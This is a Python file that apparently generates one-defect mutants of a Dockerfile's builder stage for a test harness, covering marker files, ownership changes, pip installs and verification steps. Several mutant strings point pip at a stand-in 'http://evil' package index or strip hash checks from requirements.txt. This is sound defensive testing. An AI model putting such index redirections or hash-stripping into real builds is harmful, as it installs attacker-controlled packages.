"""What the Dockerfile's first stage marks, installs with pip, and proves."""

from __future__ import annotations

from collections.abc import Iterator

from image_harness.design import Design
from image_harness.mutants import Draft, Good, Mutant, docker, in_stage, mutant

BUILDER, RUNTIME = 0, 1


def mutants(good: Good) -> Iterator[Mutant]:
    """One defect each."""
    yield from _markers(good.design)
    yield from _pip(good.design)
    yield from _builder_verification(good.design)
    yield from _ignored_verification(good.design)


def _markers(design: Design) -> Iterator[Mutant]:
    followers = {
        "directories": ["builder.marker.runtime-directory", "builder.marker.lib-directory"],
        "packages": ["builder.marker.packages", "builder.marker.binaries"],
    }
    for marker in design.markers:
        kills = f"builder.marker.{marker.slug}"
        misses = {"case": marker.text.lower(), "longer": f"{marker.text}_", "part": marker.text[:-1], "empty": ""}
        for miss, text in misses.items():
            yield docker(
                f"builder.marker.{marker.slug}.{miss}",
                f"the marker {marker.slug} says {text!r}",
                kills,
                f'echo "{marker.text}',
                f'echo "{text}',
            )
        if marker.timestamped:
            yield docker(
                f"builder.marker.{marker.slug}.no-time",
                "the marker tells no time",
                kills,
                f"{marker.text}_$(date +%s)",
                marker.text,
            )
            yield docker(
                f"builder.marker.{marker.slug}.other-time",
                "the marker tells the date",
                kills,
                f"{marker.text}_$(date +%s)",
                f"{marker.text}_$(date +%F)",
            )
    runtime, lib = "> /var/run/.keep", "> /var/lib/.keep"
    for slug, redirection in {"runtime-directory": runtime, "lib-directory": lib}.items():
        kills = f"builder.marker.{slug}"
        yield docker(
            f"builder.marker.{slug}.elsewhere", "the marker has another name", kills, redirection, f"{redirection}er"
        )
        yield docker(f"builder.marker.{slug}.no-redirection", "the marker is printed", kills, f" {redirection}", "")
        yield docker(
            f"builder.marker.{slug}.quoted-redirection",
            "the marker is printed, its path too",
            kills,
            redirection,
            redirection.replace(">", "'>'"),
        )
    chown = "chown -R 65532:65532 /var/run /var/lib"
    for miss, text in {
        "root": "chown -R 0:0 /var/run /var/lib",
        "flat": "chown 65532:65532 /var/run /var/lib",
        "one": "chown -R 65532:65532 /var/run",
        "uid-only": "chown -R 65532 /var/run /var/lib",
        "absent": "true",
        "echoed": f"echo {chown}",
    }.items():
        yield docker(f"builder.marker.owner.{miss}", text, "builder.marker.directories-owner", chown, text)
    chown = "chown -R 65532:65532 /root/.local"
    for miss, text in {
        "root": "chown -R 0:0 /root/.local",
        "flat": "chown 65532:65532 /root/.local",
        "elsewhere": "chown -R 65532:65532 /root/.cache",
        "absent": "true",
        "longer": f"{chown}/lib",
    }.items():
        yield docker(f"builder.packages.owner.{miss}", text, "builder.marker.packages-owner", chown, text)

    for slug, chown in {
        "directories": "chown -R 65532:65532 /var/run /var/lib",
        "packages": "chown -R 65532:65532 /root/.local",
    }.items():
        last = chown.rpartition(" ")[2]
        for miss, text in {
            "ignored": f"{chown} || true",
            "skipped": f"false && {chown} || true",
            "comment": f"true # && {chown}",
            "after-exit": f"exit 0 && {chown}",
            "taken-back": f"{chown} && chown -R 0:0 {last}",
            "taken-back-inside": f"{chown} && chown 0:0 {last}/lib",
            "taken-back-around": f"{chown}\n\nRUN chgrp --recursive 0 {last.rpartition('/')[0] or '/'}",
            "taken-back-pattern": f"{chown} && chown -R 0 {last[:-1]}*",
            "taken-back-found": f"{chown}\n\nRUN find {last} -exec chown 0:0 {{}} +",
        }.items():
            yield docker(
                f"builder.{slug}.owner.{miss}",
                text.replace("\n\n", "; "),
                f"builder.marker.{slug}-owner",
                f"    {chown}\n",
                f"    {text}\n",
                follows=followers[slug] if miss in ("ignored", "skipped") else (),
            )


def _pip(design: Design) -> Iterator[Mutant]:
    site, scripts = design.dockerfile.user_site, design.dockerfile.user_scripts
    for miss, (old, text) in {
        "site-absent": (f"mkdir -p {site}", "true"),
        "scripts-absent": (f"mkdir -p {scripts}", "true"),
        "other-python": (f"mkdir -p {site}", f"mkdir -p {site.replace('3.11', '3.12')}"),
        "no-parents": (f"mkdir -p {scripts}", f"mkdir {scripts}"),
    }.items():
        yield docker(f"pip.directories.{miss}", text, "builder.pip.directories", old, text)
    line = "pip install --user --no-cache-dir --prefer-binary -r requirements.txt"
    install, flags = (
        "builder.pip.install",
        [f"builder.pip.flag.{item.slug}" for item in design.collection("dockerfile.pip_flags")],
    )
    side = ["builder.pip.flag.no-cache-dir", "builder.pip.flag.prefer-binary"]
    for miss, text in {
        "more": f"{line} && pip install --user extra",
        "other-file": line.replace("requirements", "other"),
        "constraint": line.replace("-r ", "-c "),
        "word-after": f"{line} extra",
        "no-file": line.replace("-r requirements.txt", "fastapi uvicorn"),
    }.items():
        kills = install
        if miss == "more":
            yield docker(
                "pip.second-in-block",
                "a package is installed on the side",
                install,
                line,
                f"pip install --user extra && {line}",
                follows=side,
            )
            continue
        yield docker(f"pip.install.{miss}", text, kills, line, text)
    yield docker(
        "pip.second-block",
        "a second RUN installs with pip",
        install,
        "RUN python3 -c",
        "RUN pip install --user extra\n\nRUN python3 -c",
        nth=0,
        follows=side,
    )
    for miss, text in {
        "pip3": "pip3 install --user extra",
        "pip3.11": "pip3.11 install --user extra",
        "path": "/usr/local/bin/pip install --user extra",
        "module": "python3 -m pip install --user extra",
        "option-first": "pip --no-input install --user extra",
        "variable": "PIP_INDEX_URL=http://evil pip install --user extra",
        "env": "env A=1 pip install --user extra",
        "brackets": "(pip install --user extra)",
        "condition": "if true; then pip install --user extra; fi",
        "shell": "sh -c 'pip install --user extra'",
        "substituted": 'echo "$(pip install --user extra)"',
        "here-document": "<<EOF\npip install --user extra\nEOF",
        "json-form": '["pip", "install", "--user", "extra"]',
    }.items():
        yield docker(
            f"pip.second-run.{miss}",
            f"RUN {text}",
            install,
            "COPY monitor_service/resource_monitor",
            f"RUN {text}\n\nCOPY monitor_service/resource_monitor",
            follows=side,
        )
    yield from _pip_otherwise(design, line)
    yield docker(
        "pip.echoed", "pip install is printed, not run", [install, *flags, "builder.pip.cache"], line, f"echo {line}"
    )
    for item in design.collection("dockerfile.pip_flags"):
        for miss, text in {
            "absent": "",
            "longer": f"{item.value}s ",
            "case": f"{item.value.upper()} ",
            "negated": f"--no-{item.value[2:]} ",
        }.items():
            yield docker(
                f"pip.flag.{item.slug}.{miss}",
                f"pip install with {text or 'no ' + item.value}",
                f"builder.pip.flag.{item.slug}",
                f"{item.value} ",
                text,
                stage=BUILDER,
                follows=[install] * (text == "--no-user "),  # which is an option of pip's, others with no- are none
            )
    mount = f"--mount=type=cache,target={design.dockerfile.pip_cache_mount}"
    for miss, text in {
        "target": f"{mount}s",
        "tmpfs": mount.replace("cache,", "tmpfs,"),
        "absent": "--network=default",
        "other-user": mount.replace("/root", "/home"),
    }.items():
        yield docker(f"pip.cache.{miss}", f"pip install with {text}", "builder.pip.cache", mount, text)


def _pip_otherwise(design: Design, line: str) -> Iterator[Mutant]:
    install = "builder.pip.install"
    for miss, text in {
        "ignored": f"{line} || true",
        "ignored-by-next": f"{line}; true",
        "ignored-by-and": f"set -e; {line} && true; true",
        "no-longer-strict": f"set -e; set +e; {line}; true",
        "background": f"{line} &",
        "piped": f"{line} | cat",
        "index": line.replace("-r ", "--index-url http://evil/ -r "),
        "index-short": line.replace("-r ", "-ihttp://evil/ -r "),
        "index-abbreviated": line.replace("-r ", "--index=http://evil/ -r "),
        "extra-index": line.replace("-r ", "--extra-index-url=http://evil/ -r "),
        "package-before": line.replace("-r ", "extra -r "),
        "second-file": line.replace("-r ", "--requirement=other.txt -r "),
        "exported": f"export PIP_INDEX_URL=http://evil/ && {line}",
        "configured": f"pip config set global.index-url http://evil/ && {line}",
        "help": line.replace("-r ", "--help -r "),
        "help-short": line.replace("-r ", "-h -r "),
        "version": line.replace("-r ", "-V -r "),
        "no-user": line.replace("--user", "--user --no-user"),
        "elsewhere": f"cd /tmp && {line}",
        "rewritten": f"sed -i 's/ --hash.*//' requirements.txt && {line}",
        "appended": f"echo extra >> requirements.txt && {line}",
    }.items():
        yield docker(f"pip.install.{miss}", text, install, line, text)
    cache = f"--mount=type=cache,target={design.dockerfile.pip_cache_mount}"
    for miss, target in {"file": "/build/requirements.txt", "folder": "/build", "relative": "requirements.txt"}.items():
        mount = f"--mount=type=bind,source=other.txt,target={target}"
        yield docker(f"pip.install.mounted-{miss}", mount, install, cache, f"{cache} {mount}")
    for keyword, setting in {"ENV": "PIP_INDEX_URL=http://evil/", "ARG": "PIP_EXTRA_INDEX_URL"}.items():
        yield docker(
            f"pip.install.{keyword.lower()}",
            f"{keyword} {setting}",
            install,
            "COPY monitor_service/requirements",
            f"{keyword} {setting}\nCOPY monitor_service/requirements",
        )


def _builder_verification(design: Design) -> Iterator[Mutant]:
    packages = [package.slug for package in design.site_packages.packages]
    line, location = (
        f"import {', '.join(packages)}; print(",
        "import uvicorn; print('uvicorn location:', uvicorn.__file__)",
    )
    for name in packages:
        kills, follows = f"builder.verify.import.{name}", ["builder.verify.uvicorn-location"] * (name == "uvicorn")
        rest = [other for other in packages if other != name]
        for miss, listed in {
            "absent": rest,
            "longer": [*rest, f"{name}_x"],
            "case": [*rest, name.upper()],
            "submodule": [*rest, f"{name}.main"],
        }.items():

            def change(draft: Draft, name: str = name, listed: tuple[str, ...] = tuple(listed)) -> None:
                in_stage(draft, BUILDER, line, f"import {', '.join(listed)}; print(")
                if name == "uvicorn":
                    in_stage(draft, BUILDER, location, "print('uvicorn')")

            yield mutant(
                f"builder.verify.{name}.{miss}",
                f"the builder imports {', '.join(listed)}",
                kills,
                change,
                follows=follows,
            )
    for miss, text in {
        "no-import": "print('uvicorn')",
        "no-location": "import uvicorn; print('uvicorn location:')",
        "other": "import uvicorn; print(uvicorn.__version__)",
    }.items():
        yield docker(f"builder.verify.location.{miss}", text, "builder.verify.uvicorn-location", location, text)
    site = design.dockerfile.user_site
    marker = f"{site}/.lucid-marker"
    for id_, test, path in (("directory", "-d", site), ("marker", "-f", marker), ("marker-content", "-s", marker)):
        old = f"test {test} {path} &&"
        for miss, text in {
            "absent": "true &&",
            "other-path": f"test {test} {path}s &&",
            "other-test": f"test -e {path} &&",
            "echoed": f"echo test {test} {path} &&",
            "negated": f"! test {test} {path} &&",
        }.items():
            yield docker(f"builder.verify.{id_}.{miss}", text, f"builder.verify.{id_}", old, text)


def _ignored_verification(design: Design) -> Iterator[Mutant]:
    packages = [package.slug for package in design.site_packages.packages]
    line, location = f'"import {", ".join(packages)}; print(', '"import uvicorn; print('
    site = design.dockerfile.user_site
    marker = f"{site}/.lucid-marker"
    proofs = [
        *(f"builder.verify.import.{name}" for name in packages),
        "builder.verify.uvicorn-location",
        *("builder.verify.directory", "builder.verify.marker", "builder.verify.marker-content"),
    ]
    end = '    echo "✅ Marker file verified in builder (non-empty)"\n'
    for miss, text in {
        "ignored": end.replace("\n", " || true\n"),
        "ignored-by-next": end.replace("    echo", "    true; echo"),
        "piped": end.replace("\n", " | cat\n"),
    }.items():
        yield docker(f"builder.verify.{miss}", f"what is proved is {miss}", proofs, end, text)

    def each_ignored(draft: Draft) -> None:
        for test, path in (("-d", site), ("-f", marker), ("-s", marker)):
            draft.docker(f"test {test} {path} &&", f"test {test} {path} || true;")
        in_stage(draft, BUILDER, 'uvicorn.__file__)" &&', 'uvicorn.__file__)" || true;')
        in_stage(draft, BUILDER, "packages installed')\" &&", "packages installed')\" ||")

    yield mutant("builder.verify.each-ignored", "whatever fails to be proved is ignored", proofs, each_ignored)
    for miss, begin in {"exit": "import sys; sys.exit(0); ", "condition": "if False: "}.items():
        yield docker(
            f"builder.verify.import.{miss}",
            f"what imports begins with {begin.strip()}",
            [f"builder.verify.import.{name}" for name in packages if name != "uvicorn"],
            line,
            line.replace('"', f'"{begin}'),
        )
    yield docker(
        "builder.verify.location.exit",
        "the program ends before it prints the location",
        "builder.verify.uvicorn-location",
        location,
        location.replace('"', '"exit(); '),
    )
